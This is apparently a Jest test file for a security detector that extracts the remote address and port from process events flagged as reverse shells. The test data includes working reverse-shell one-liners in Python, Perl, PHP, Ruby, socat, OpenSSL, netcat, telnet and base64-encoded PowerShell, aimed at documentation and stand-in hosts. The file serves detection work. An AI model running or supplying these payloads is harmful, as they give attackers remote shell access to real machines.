import { describe, expect, it, test } from '@jest/globals';
import type { Json, JsonObject } from '../../src/contracts/types.ts';
import { payloadOf, read } from './harness.ts';

const toOf = (event: JsonObject, id = 'Reverse-Shell') => {
  const { endpoint } = read(payloadOf(id, { process_events: [event] }));
  return endpoint === undefined ? undefined : `${endpoint.address}:${endpoint.port}`;
};
const by = (exe: string, ...args: Json[]): JsonObject => ({ exe, arguments: args });
const powershell = String.raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`;
const client = `$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$stream = $client.GetStream();`;

describe('the far end that a script names', () => {
  test.each<[string, JsonObject]>([
    [
      'Python',
      by(
        '/usr/bin/python3.12',
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")',
      ),
    ],
    ['Python, in one text', { exe: 'python3', arguments: `python3 -c "s.connect(('203.0.113.9', 4444))"` }],
    [
      'Python, with variables',
      by('/bin/sh', 'sh', '-c', 'export RHOST="203.0.113.9";export RPORT=4444;python -c "x"'),
    ],
    ['Python, by another function', by('python3', '-c', 'socket.create_connection(("203.0.113.9",4444))')],
    [
      'Perl',
      by(
        '/usr/bin/perl',
        'perl',
        '-e',
        'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));',
      ),
    ],
    [
      'Perl’s IO',
      by(
        '/usr/bin/perl',
        '-MIO',
        '-e',
        '$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);',
      ),
    ],
    [
      'Perl’s IO by name',
      by('perl', '-e', 'IO::Socket::INET->new(PeerHost=>"203.0.113.9", PeerPort=>"4444")'),
    ],
    [
      'PHP',
      by('/usr/bin/php8.3', 'php', '-r', '$sock=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");'),
    ],
    ['PHP’s streams', by('php', '-r', '$s=stream_socket_client("tcp://203.0.113.9:4444");')],
    [
      'Ruby',
      by(
        '/usr/bin/ruby',
        'ruby',
        '-rsocket',
        '-e',
        'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("sh -i <&%d",f)',
      ),
    ],
    ['Ruby’s new', by('ruby', '-rsocket', '-e', `c=TCPSocket.new('203.0.113.9','4444')`)],
    ['Node', by('/usr/bin/node', '-e', 'c=new net.Socket();c.connect(4444, "203.0.113.9", function(){})')],
    ['Go', by('/tmp/x', '-c', 'c,_:=net.Dial("tcp","203.0.113.9:4444")')],
    ['awk', by('/usr/bin/mawk', 'awk', 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; }')],
    ['socat', by('/usr/bin/socat', 'socat', 'TCP:203.0.113.9:4444', 'EXEC:/bin/sh')],
    [
      'socat, the other way round',
      by('/usr/bin/socat', 'exec:bash -li,pty,stderr', 'tcp4-connect:203.0.113.9:4444'),
    ],
    ['socat with TLS', by('socat', 'OPENSSL:203.0.113.9:4444,verify=0', 'EXEC:sh')],
    [
      'OpenSSL',
      by('sh', '-c', 'mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > s'),
    ],
    [
      'netcat in a pipe',
      by('/usr/bin/dash', 'sh', '-c', 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 203.0.113.9 4444 >f'),
    ],
    ['netcat with quotes', by('/bin/bash', 'bash', '-c', `nc -c 'bash -li' "203.0.113.9" 4444`)],
    ['netcat of sudo', by('/usr/bin/sudo', 'sudo', 'nc', '-e', '/bin/sh', '203.0.113.9', '4444')],
    ['netcat of BusyBox', by('/bin/busybox', 'nc', '203.0.113.9', '4444', '-e', 'sh')],
    ['telnet', by('sh', '-c', 'telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445')],
    [
      'netcat on Windows',
      by(
        String.raw`C:\tools\NCAT.EXE`,
        String.raw`C:\tools\ncat.exe`,
        '203.0.113.9',
        '4444',
        '-e',
        'cmd.exe',
      ),
    ],
    ['PowerShell', by(powershell, 'powershell.exe', '-nop', '-c', client)],
    ['PowerShell’s new', by('pwsh', '-Command', `[System.Net.Sockets.TcpClient]::new("203.0.113.9", 4444)`)],
    [
      'PowerShell in base64',
      by(powershell, '-nop', '-enc', Buffer.from(client, 'utf16le').toString('base64')),
    ],
    [
      'PowerShell in base64, in one text',
      {
        exe: powershell,
        arguments: `powershell -EncodedCommand ${Buffer.from(client, 'utf16le').toString('base64')}`,
      },
    ],
  ])('%s', (_, event) => {
    expect(toOf(event)).toBe('203.0.113.9:4444');
  });

  test.each<[string, JsonObject]>([
    ['a listener of socat', by('socat', 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh')],
    ['a listener of Python', by('python3', '-c', 's.bind(("0.0.0.0",4444));s.listen(1)')],
    [
      'a name that is a variable',
      by('python3', '-c', 's.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))'),
    ],
    ['a port that is none', by('php', '-r', 'fsockopen("203.0.113.9",444444)')],
    ['base64 of anything', by(powershell, '-enc', 'QUJDREVGR0hJSktMTU5PUA==')],
    ['a mail', by('sh', '-c', 'mail -s "connect 203.0.113.9 at 4444"')],
  ])('is not guessed: %s', (_, event) => {
    expect(toOf(event)).toBeUndefined();
  });

  it('may be a name, and IPv6', () => {
    expect(toOf(by('socat', 'TCP6:[2001:db8::9]:4444', 'EXEC:sh'))).toBe('2001:db8::9:4444');
    expect(toOf(by('php', '-r', 'fsockopen("C2.example",443)'))).toBe('c2.example:443');
  });

  it('has the transport where the script names it', () => {
    const transportOf = (script: string) =>
      read(payloadOf('Reverse-Shell', { process_events: [by('bash', '-c', script)] })).endpoint?.transport;
    expect(transportOf('bash -i >& /dev/udp/c2.example/53')).toBe('udp');
    expect(transportOf('bash -i >& /dev/tcp/c2.example/53')).toBe('tcp');
    expect(transportOf('nc c2.example 53')).toBeUndefined();
  });

  it('is read for kinds that hold reverse shells among others, and for no other', () => {
    const event = by('nc', '203.0.113.9', '4444');
    expect(toOf(event, 'Suspicious-Process-Events')).toBe('203.0.113.9:4444');
    expect(toOf(event, 'Privileged-Container')).toBeUndefined();
  });
});
